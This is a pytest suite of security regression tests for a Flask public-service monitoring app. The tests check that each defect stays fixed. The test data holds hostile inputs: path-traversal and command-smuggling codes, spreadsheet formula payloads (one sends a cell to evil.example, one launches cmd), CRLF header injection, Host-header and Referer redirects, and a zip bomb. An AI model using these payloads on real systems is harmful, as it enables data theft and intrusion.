"""The security defects of issue 14, one test (or more) each; every one failed before its fix.

docs/security.md lists what is defended and which test shows it.
"""
from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
import yaml
from sqlalchemy import select

from monitor.extensions import db
from monitor.open_data import zip_archive
from services_catalog import CatalogError, load_catalog

from .catalogs import service, write_catalog

# ------------------------------------------------ 1. service codes cannot be paths

@pytest.mark.parametrize("code", ["../x", "/tmp/x", "a/b", "..", "a\\b", "x.yaml", "S1;rm"])
def test_a_service_code_that_could_be_a_path_is_refused(tmp_path, code):
    folder = write_catalog(tmp_path / "catalog", services=[service("S1")])
    (folder / "services" / "evil.yaml").write_text(yaml.safe_dump(service(code), allow_unicode=True))
    with pytest.raises(CatalogError) as error:
        load_catalog(folder)
    assert any(p.field == "code" and "must match" in p.reason for p in error.value.problems), error.value


def test_catalog_validate_reports_the_bad_code(app, tmp_path):
    folder = write_catalog(tmp_path / "catalog", services=[service("S1")])
    (folder / "services" / "evil.yaml").write_text(yaml.safe_dump(service("../../x")))
    result = app.test_cli_runner().invoke(args=["catalog", "validate", str(folder)])
    assert result.exit_code == 1 and "'../../x' must match" in result.output


def test_the_catalog_zip_is_built_in_memory(loaded_catalog, client, tmp_path, monkeypatch):
    import tempfile

    def no_temporary_folders(*args, **kwargs):
        raise AssertionError("the ZIP must not touch the file system")
    monkeypatch.setattr(tempfile, "TemporaryDirectory", no_temporary_folders)
    monkeypatch.setattr(tempfile, "mkdtemp", no_temporary_folders)
    response = client.get("/open-data/catalog.zip")
    assert response.status_code == 200
    names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
    assert names == ["documents.yaml"] + sorted(f"services/{p.name}" for p in (loaded_catalog / "services").iterdir())


def test_a_stored_code_that_is_a_path_never_writes_a_file(loaded_catalog, tmp_path, monkeypatch):
    """Even a catalog object with such a code (data from before the fix) writes nothing."""
    catalog = load_catalog(loaded_catalog)
    evil = dataclasses.replace(catalog.services["S1"], code=f"../{tmp_path.name}/escaped")
    bad = dataclasses.replace(catalog, services={**catalog.services, evil.code: evil})
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError, match="cannot name"):
        zip_archive.catalog_zip(bad)
    assert not list(tmp_path.parent.glob("**/escaped.yaml"))


# ------------------------------------------------ 5. exports never hold live formulas

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_cells_starting_like_a_formula_become_text():
    from monitor.services.cells import safe_cell
    assert [safe_cell(v) for v in ("=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "ok", 5, -3.5, None)] == \
        ["'=1+1", "'+7 701", "'-2", "'@SUM(A1)", "'\tx", "ok", 5, -3.5, None]


def test_report_and_findings_exports_hold_no_formulas(app, people, client, login, loaded_catalog, tmp_path):
    import datetime as dt

    import openpyxl
    import pandas as pd

    from monitor.tools.synthetic import generate_visits
    frame = generate_visits(load_catalog(loaded_catalog), visits=400, start=dt.date(2026, 3, 16), days=5,
                            offices=["OF1"], breach_rate=0.3)
    frame["staff_id"] = FORMULA
    frame.to_csv(tmp_path / "v.csv", index=False)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["visits", "import", str(tmp_path / "v.csv")]).exit_code == 0
    assert runner.invoke(args=["findings", "sweep", "--as-of", "2026-04-30T00:00"]).exit_code == 0
    login("admin")
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/supervisor/report.xlsx?week=2026-W12").data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'" + FORMULA for cell in cells)  # the staff sheet still names them
    text = client.get("/supervisor/report.csv?week=2026-W12").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in text
    assert not [line for line in text.splitlines() if any(cell.startswith(("=", "@", "+"))
                                                           for cell in line.split(","))]
    assert runner.invoke(args=["findings", "export", str(tmp_path / "f.csv")]).exit_code == 0
    exported = pd.read_csv(tmp_path / "f.csv", dtype=str, keep_default_na=False)
    assert not exported.map(lambda v: v.startswith(("=", "+", "-", "@"))).any().any()


def test_the_public_catalog_csv_holds_no_formulas(app, client, tmp_path):
    from monitor.stores.catalog import store_catalog
    folder = write_catalog(tmp_path / "catalog", services=[
        service("S1", name={"kk": "=cmd|' /C calc'!A0", "ru": "@SUM(1+1)", "en": "+1 service"})])
    store_catalog(db.session, load_catalog(folder))
    db.session.commit()
    text = client.get("/open-data/catalog.csv").get_data(as_text=True)
    assert "'=cmd" in text and "'@SUM(1+1)" in text and "'+1 service" in text


# ------------------------------------------------ 6. bad input is a clear 400 or a form error

@pytest.mark.parametrize("path", ["/login", "/status", "/complaints/new", "/complaints/follow"])
def test_json_bodies_with_nested_values_are_a_clear_400(client, people, loaded_catalog, path):
    response = client.post(path + "?lang=en", json={"login": ["a"], "password": {"x": 1}, "case_number": ["1"],
                                                    "check_code": {"a": 1}, "text": [1, 2], "reference": {}})
    assert response.status_code == 400 and "form data" in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/?endpoint=x", "/services/S1?endpoint=x&_external=1", "/status?_scheme=x"])
def test_query_keys_that_url_for_reads_are_ignored(client, loaded_catalog, path):
    response = client.get(path)
    assert response.status_code == 200 and "?lang=kk" in response.get_data(as_text=True)


def test_a_crlf_in_next_is_not_followed(client, people):
    from .conftest import PASSWORD
    response = client.post("/login?next=/desk/%0d%0aX-Evil:%201", data={"login": "desk1", "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/desk/"
    assert "X-Evil" not in response.headers


@pytest.mark.parametrize("week", ["0001-W01", "9999-W52", "2026-W99", "2026-W1"])
def test_weeks_out_of_range_are_a_400(client, login, loaded_catalog, week):
    login("admin")
    for path in ("/supervisor/", "/supervisor/findings", "/supervisor/report.xlsx"):
        response = client.get(f"{path}?week={week}")
        assert response.status_code == 400, (path, response.status_code)
        assert "2026-W12" in response.get_data(as_text=True)


@pytest.mark.parametrize("year", ["0001", "9999"])
def test_desk_dates_far_out_are_a_form_error(client, login, loaded_catalog, year):
    from monitor.models import Visit
    login("desk1")
    response = client.post("/desk/visits/new?service=S1&lang=en", data={
        "service_code": "S1", "action": "submit", "called_at": f"{year}-01-01T10:00",
        "finished_at": f"{year}-01-01T10:10"})
    assert response.status_code == 422 and "between 2000 and 2100" in response.get_data(as_text=True)
    assert db.session.scalar(select(Visit)) is None


def test_a_nul_byte_is_refused_and_never_stored(client, login, loaded_catalog):
    from monitor.models import Complaint, Visit
    login("desk1")
    response = client.post("/desk/visits/new?service=S1&lang=en", data={
        "service_code": "S1", "action": "consult", "called_at": "2026-03-17T10:00",
        "finished_at": "2026-03-17T10:10", "other_documents": "birth\x00certificate"})
    assert response.status_code == 400 and "control character" in response.get_data(as_text=True)
    response = client.post("/complaints/new", data={"kind": "delay", "text": "late late late\x00 late"})
    assert response.status_code == 400
    assert db.session.scalar(select(Visit)) is None and db.session.scalar(select(Complaint)) is None


# ------------------------------------------------ 7. request size limits

def test_a_large_anonymous_post_is_refused_before_it_is_read(client, loaded_catalog):
    from monitor.models import Complaint
    body = "kind=delay&text=" + "x" * (2 * 1024 * 1024)
    response = client.post("/complaints/new", data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413
    response = client.post("/complaints/new", data={"kind": "delay", "text": "x" * 70_000})
    assert response.status_code == 413
    assert db.session.scalar(select(Complaint)) is None


def test_a_signed_in_post_has_a_limit_too(client, login, loaded_catalog, app):
    login("desk1")
    body = "service_code=S1&other_documents=" + "x" * (app.config["MAX_CONTENT_LENGTH"] + 10)
    response = client.post("/desk/visits/new", data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413


def test_fields_have_their_own_limits(client, loaded_catalog):
    response = client.post("/complaints/new?lang=en", data={"kind": "delay", "text": "x" * 5001})
    assert response.status_code == 422
    response = client.post("/login", data={"login": "x" * 81, "password": "y"})
    assert response.status_code == 200 and "Wrong login" not in response.get_data(as_text=True)


# ------------------------------------------------ 9. clear IINs never in rejects or messages

def test_iins_are_masked_in_rejects_and_cli_messages(app, loaded_catalog, tmp_path):
    from .test_import import VALID_IIN, row, write_csv
    wrong_digit = VALID_IIN[:-1] + str((int(VALID_IIN[-1]) + 1) % 10)
    path = write_csv(tmp_path / "v.csv", [
        row("v1", case_id="C1", applicant_ref=VALID_IIN, action="stamp"),
        row("v2", case_id="C2", applicant_ref=wrong_digit),
        row("v3", case_id="C3", service_code=VALID_IIN)])
    rejects = tmp_path / "rejects.csv"
    result = app.test_cli_runner().invoke(args=["visits", "import", str(path), "--skip-invalid",
                                                "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    written = rejects.read_text(encoding="utf-8")
    for iin in (VALID_IIN, wrong_digit):
        assert iin not in result.output and iin not in written
    assert "********" + VALID_IIN[-4:] in written and "********" + VALID_IIN[-4:] in result.output


def test_mask_iins_keeps_other_numbers():
    from monitor.compliance.applicants import mask_iins
    assert mask_iins("ref 900101300017, phone 87010000000, id 1234567890123") == \
        "ref ********0017, phone 87010000000, id 1234567890123"


# ------------------------------------------------ 11. the desk learns nothing of other offices' cases

def test_another_offices_case_looks_like_no_case(client, login, loaded_catalog):
    from monitor.models import Case
    db.session.add(Case(case_number="OF2-CASE", office_code="OF2", service_code="S2", outcome="open"))
    db.session.commit()
    login("desk1")
    answers = {}
    for number in ("OF2-CASE", "NO-SUCH-CASE"):
        response = client.post("/desk/visits/new?service=S1&lang=en", data={
            "service_code": "S1", "action": "issue", "case_number": number,
            "called_at": "2026-04-07T10:00", "finished_at": "2026-04-07T10:05"})
        answers[number] = response.get_data(as_text=True).replace(number, "N")
        assert response.status_code == 422
    assert "is for service" not in answers["OF2-CASE"] and "handled by another office" not in answers["OF2-CASE"]
    assert "there is no case N at your office" in answers["OF2-CASE"]
    assert answers["OF2-CASE"] == answers["NO-SUCH-CASE"]


# ------------------------------------------------ 12. links in open data never come from the Host header

@pytest.mark.parametrize("path", ["/open-data/catalog.jsonld", "/open-data/vocabulary"])
def test_open_data_links_use_the_configured_base_url(app, client, loaded_catalog, path):
    app.config["PUBLIC_BASE_URL"] = "https://monitor.example.kz"
    response = client.get(path, headers={"Host": "evil.example"})
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "evil.example" not in body
    assert "https://monitor.example.kz/" in body


def test_without_a_base_url_the_host_header_is_still_not_used(client, loaded_catalog):
    body = client.get("/open-data/catalog.jsonld", headers={"Host": "evil.example"}).get_data(as_text=True)
    assert "evil.example" not in body


# ------------------------------------------------ 13. no redirect to the Referer; no case "none"

def test_a_review_never_redirects_to_the_referer(app, client, login, people, loaded_catalog):
    import datetime as dt

    from monitor.models import Case, Finding
    case = Case(case_number="OF1-1", office_code="OF1", service_code="S1", outcome="open")
    db.session.add(case)
    db.session.flush()
    finding = Finding(case_pk=case.id, rule="OVERDUE_OPEN", clause="2.2.1", severity="medium", detail="late",
                      as_of=dt.datetime(2026, 4, 1, tzinfo=dt.UTC))
    db.session.add(finding)
    db.session.commit()
    login("super1")
    for referer in ("https://evil.example/phish", "//evil.example/x", "/supervisor/findings?rule=X"):
        response = client.post(f"/supervisor/findings/{finding.id}/review",
                               data={"decision": "confirmed", "note": "seen"}, headers={"Referer": referer})
        assert response.status_code == 302
        location = response.headers["Location"]
        assert "evil" not in location and location.startswith("/supervisor/findings")
    # The filtered list the review came from, at the place of the finding just reviewed.
    assert location == f"/supervisor/findings?rule=X&reviewed={finding.id}#place"


def test_a_case_numbered_none_does_not_open_with_code_none(client, loaded_catalog):
    from monitor.models import Case
    db.session.add(Case(case_number="none", office_code="OF1", service_code="S1", outcome="open"))
    db.session.commit()
    response = client.post("/status?lang=en", data={"case_number": "none", "check_code": "none"})
    assert response.status_code == 200
    assert '<section id="status">' not in response.get_data(as_text=True)
    import datetime as dt

    from monitor.services import citizens
    assert citizens.case_status(db.session, "none", "none", dt.datetime.now(dt.UTC)) is None


# ------------------------------------------------ 14. HSTS over HTTPS; signed-in pages not stored

def test_hsts_is_sent_over_https_only(client, loaded_catalog):
    secure = client.get("/", base_url="https://monitor.example.kz")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    assert "Strict-Transport-Security" not in client.get("/").headers


def test_hsts_follows_the_proxy_when_configured(app, database_url, loaded_catalog):
    from monitor import create_app

    from .conftest import TEST_CONFIG
    proxied = create_app({**TEST_CONFIG, "DATABASE_URL": database_url, "PROXY_FIX_X_PROTO": 1})
    try:
        response = proxied.test_client().get("/healthz", headers={"X-Forwarded-Proto": "https"})
        assert "Strict-Transport-Security" in response.headers
    finally:
        with proxied.app_context():
            db.engine.dispose()


def test_signed_in_pages_are_never_stored(client, login, loaded_catalog):
    assert client.get("/").headers.get("Cache-Control") != "no-store"
    login("admin")
    for path in ("/", "/desk/", "/supervisor/findings", "/admin/users", "/supervisor/report.csv?week=2026-W12"):
        response = client.get(path)
        assert response.headers["Cache-Control"] == "no-store", path
    assert client.get("/open-data/catalog.json").headers["Cache-Control"] == "public, max-age=300"


# ------------------------------------------------ 8. import: what Excel writes, and hostile files

def _csv(path, rows, delimiter=",", encoding="utf-8"):
    import csv

    from .test_import import HEADER
    with path.open("w", newline="", encoding=encoding) as stream:
        writer = csv.DictWriter(stream, fieldnames=HEADER, delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_a_semicolon_separated_windows_1251_file_imports(app, loaded_catalog, tmp_path):
    from monitor.models import Visit

    from .test_import import row
    path = _csv(tmp_path / "excel.csv", [row("v1", staff_id="Айгуль"), row("v2", case_id="C2")],
                delimiter=";", encoding="cp1251")
    result = app.test_cli_runner().invoke(args=["visits", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "read as CSV, Windows-1251, separated by semicolons" in result.output
    assert sorted(db.session.scalars(select(Visit.staff_id))) == ["st1", "Айгуль"]


def test_a_tab_separated_utf8_file_imports(app, loaded_catalog, tmp_path):
    from .test_import import row
    path = _csv(tmp_path / "tabs.csv", [row("v1")], delimiter="\t")
    result = app.test_cli_runner().invoke(args=["visits", "import", str(path)])
    assert result.exit_code == 0 and "separated by tabs" in result.output


def _one_clear_line(result, *expected):
    assert result.exit_code == 1
    errors = [line for line in result.output.splitlines() if line.strip()]
    assert len(errors) == 1 and "Traceback" not in result.output, result.output
    for text in expected:
        assert text in errors[0], errors[0]


def test_a_million_columns_is_one_clear_line(app, loaded_catalog, tmp_path):
    from .test_import import HEADER
    path = tmp_path / "wide.csv"
    path.write_text(",".join(HEADER + [f"c{i}" for i in range(1_000_000)]) + "\n" + "x," * 12 + "x\n")
    _one_clear_line(app.test_cli_runner().invoke(args=["visits", "import", str(path)]), "line 1", "header")
    path.write_text(",".join(HEADER + [f"c{i}" for i in range(200)]) + "\n")
    _one_clear_line(app.test_cli_runner().invoke(args=["visits", "import", str(path)]), "line 1", "213 columns")


@pytest.mark.parametrize("content, expected", [
    (b"PK\x03\x04 not really a zip", "not an XLSX workbook"),
    (b"just text", "not an XLSX workbook"),
])
def test_a_bad_xlsx_is_one_clear_line(app, loaded_catalog, tmp_path, content, expected):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content)
    _one_clear_line(app.test_cli_runner().invoke(args=["visits", "import", str(path)]), expected)


def test_an_xlsx_zip_bomb_is_refused_before_it_expands(app, loaded_catalog, tmp_path):
    import resource
    import time
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"<c><v>0</v></c>" * 65536
            for _ in range(400):  # ~400 MB of cells, a few hundred KB compressed
                member.write(block)
    assert path.stat().st_size < 6 * 1024 * 1024
    before, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    _one_clear_line(app.test_cli_runner().invoke(args=["visits", "import", str(path)]), "zip bomb")
    # Refused from the archive's directory: no time nor memory spent expanding it.
    assert time.monotonic() - start < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KB


def test_an_xlsx_with_too_many_columns_is_refused(app, loaded_catalog, tmp_path):
    import openpyxl

    from .test_import import HEADER
    workbook = openpyxl.Workbook()
    workbook.active.append(HEADER + [f"c{i}" for i in range(150)])
    workbook.save(tmp_path / "wide.xlsx")
    _one_clear_line(app.test_cli_runner().invoke(args=["visits", "import", str(tmp_path / "wide.xlsx")]),
                    "163 columns")


def test_out_of_range_dates_are_bad_rows_not_tracebacks(app, loaded_catalog, tmp_path):
    from .test_import import row
    path = _csv(tmp_path / "far.csv", [row("v1", called="9999-12-31T10:00", finished="9999-12-31T10:10"),
                                       row("v2", case_id="C2", called="0001-01-01T10:00", finished="0001-01-01T10:10",
                                           ticket="")])
    result = app.test_cli_runner().invoke(args=["visits", "import", str(path)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "line 2, column called_at: called_at is not an ISO 8601 timestamp: 9999-12-31T10:00" in result.output
    assert "line 3, column called_at" in result.output
